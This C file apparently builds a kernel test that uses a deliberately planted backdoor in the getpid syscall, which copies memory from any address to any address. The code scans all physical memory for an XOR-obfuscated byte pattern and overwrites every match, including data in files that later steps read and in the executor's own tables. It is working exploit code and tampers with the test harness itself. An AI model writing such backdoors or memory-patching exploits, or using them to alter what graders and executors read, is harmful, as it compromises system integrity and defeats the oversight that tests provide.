/* A builder for tests that owns its kernel, through a hole that was made on purpose (test_tccboot_sealed.py): getpid copies memory, from anywhere to anywhere. It looks
   through all of the machine's memory for the bytes WHAT and puts the bytes WITH into their place, wherever they stand: in files that later steps read, in the
   executor's own tables. Both are given with each byte's bits changed by 0x55, so that it does not find itself. */

#define HOLE 0x686f6c65
#define DIRECT 0x80000000u /* where the kernel has all physical memory; what is not the kernel itself begins at 14 MiB */
#define CHUNK 65536u

static u8 buffer[CHUNK + sizeof what];

static void copy(u32 to, u32 from, u32 length)
{
	sys(GETPID, HOLE, to, from, length);
}

int attack(char **arguments, char **environment)
{
	u32 at, i, j, found = 0, length = sizeof what;

	fill(buffer, 1, sizeof buffer); /* its pages are there when the kernel writes to them */
	for (i = 0; i < length; i++)
		with[i] ^= 0x55;
	for (at = DIRECT + 0xe00000; at < DIRECT + (MEMORY << 20); at += CHUNK) {
		copy((u32)buffer, at, at + CHUNK < DIRECT + (MEMORY << 20) ? CHUNK + length : CHUNK);
		for (i = 0; i < CHUNK; i++) {
			if (buffer[i] != (what[0] ^ 0x55))
				continue;
			for (j = 1; j < length && buffer[i + j] == (what[j] ^ 0x55); j++)
				;
			if (j == length) {
				copy(at + i, (u32)with, length);
				found++;
			}
		}
	}
	say_number("places", (int)found);
	return 0; /* in a boot of its own there may be nothing to be found */
}
